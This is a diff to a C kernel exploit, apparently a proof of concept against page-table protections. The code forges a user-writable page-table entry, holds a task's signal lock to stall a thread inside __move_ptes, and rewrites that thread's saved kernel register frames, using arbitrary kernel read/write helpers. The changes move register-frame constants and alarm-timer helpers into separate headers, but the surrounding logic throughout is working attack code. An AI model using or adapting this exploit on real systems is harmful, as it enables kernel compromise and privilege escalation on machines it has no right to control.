@@ -11,13 +11,13 @@
 #include <stdio.h>
 #include <string.h>
 #include <sys/mman.h>
-#include <sys/time.h>
 #include <time.h>
 #include <unistd.h>
 
 #include "attack.h"
 #include "list.h"
 #include "objects.h"
+#include "pt_regs.h"
 
 #define MOVER		"__move_ptes"	/* where page tables are protected */
 #define MOVER_WITHOUT	"move_page_tables"
@@ -34,24 +34,11 @@
 #define LAST_LOOK	300000		/* microseconds */
 #define NR_SAVED	1		/* byte of kpkeys_cpu: interrupted sections */
 
-/* struct pt_regs, in words; and the bit by which nobody asks whose a page is ... */
+/* The bit by which nobody asks whose a page is ... */
 #ifdef __x86_64__
-#define FRAME_WORDS	21
-#define FRAME_GENERAL	15
-#define FRAME_IP	16
-#define FRAME_CS	17
-#define FRAME_SS	20
-#define KERNEL_CS	0x10
-#define KERNEL_SS	0x18
 #define LOCK_ALONE	0		/* nothing shows who waits */
 #define PTE_SPECIAL	(1UL << 9)
 #else
-#define FRAME_WORDS	42
-#define FRAME_GENERAL	31
-#define FRAME_IP	32
-#define FRAME_PSTATE	33
-#define MODE_MASK	0x1f
-#define MODE_KERNEL	0x5		/* at EL1 */
 #define LOCK_ALONE	1		/* more if somebody waits */
 #define PTE_SPECIAL	(1UL << 56)
 #endif
@@ -141,18 +128,6 @@ static void move_for_ever(void)
 	}
 }
 
-static void on_alarm(int signal)
-{
-	(void)signal;
-}
-
-static void start_timer(void)
-{
-	struct itimerval interval = { { 0, INTERVAL }, { 0, INTERVAL } };
-
-	setitimer(ITIMER_REAL, &interval, NULL);
-}
-
 static pid_t start_mover(void)
 {
 	pid_t pid;
@@ -162,12 +137,12 @@ static pid_t start_mover(void)
 	if (pid)
 		return pid;
 	stay_on_cpu(MOVER_CPU);
-	signal(SIGALRM, on_alarm);
+	heed_alarms();
 	if (make_places())
 		mover->ready = true;
 	while (!mover->go)
 		usleep(1000);
-	start_timer();
+	alarm_every(INTERVAL);
 	move_for_ever();
 	return 0;
 }
@@ -198,13 +173,8 @@ static bool find_target(pid_t pid, struct target *target)
 	memset(zero, 0, sizeof(zero));
 	kwrite(target->forged.addr, zero, sizeof(zero));
 	target->entry = (victim_phys() & ~(PAGE_SIZE - 1)) | PTE_USER_RW | PTE_SPECIAL;
-	target->lock = find_signal_lock(&target->task, on_alarm);
+	target->lock = find_signal_lock(&target->task);
 	return target->lock;
-}
-
-static void set_lock(const struct target *target, char locked)
-{
-	kwrite(target->lock, &locked, sizeof(locked));
 }
 
 /* Asleep: on an emulator a busy CPU delays each flush of the mover's TLB. */
@@ -212,7 +182,7 @@ static bool hold_lock(const struct target *target)
 {
 	uint32_t lock = 0;
 
-	set_lock(target, 1);
+	set_lock(target->lock, true);
 	usleep(HOLD * 1000);
 	kread(target->lock, &lock, sizeof(lock));
 	return lock > LOCK_ALONE;
@@ -255,18 +225,9 @@ static void change_frame(struct target *target, uint64_t at, const uint64_t *fra
 	}
 }
 
-static bool is_kernel(const uint64_t *frame)
-{
-#ifdef __x86_64__
-	return frame[FRAME_CS] == KERNEL_CS && frame[FRAME_SS] == KERNEL_SS;
-#else
-	return (frame[FRAME_PSTATE] & MODE_MASK) == MODE_KERNEL;
-#endif
-}
-
 static bool is_frame(const struct target *target, const uint64_t *frame)
 {
-	return is_kernel(frame) && frame[FRAME_IP] - target->function < MOVER_SIZE;
+	return is_kernel_frame(frame) && frame[FRAME_IP] - target->function < MOVER_SIZE;
 }
 
 static void change_stack(struct target *target)
@@ -297,7 +258,7 @@ static void attack_once(struct target *target)
 		prepare_page(target);
 		change_stack(target);
 	}
-	set_lock(target, 0);
+	set_lock(target->lock, false);
 	wait_for_round();
 }
 
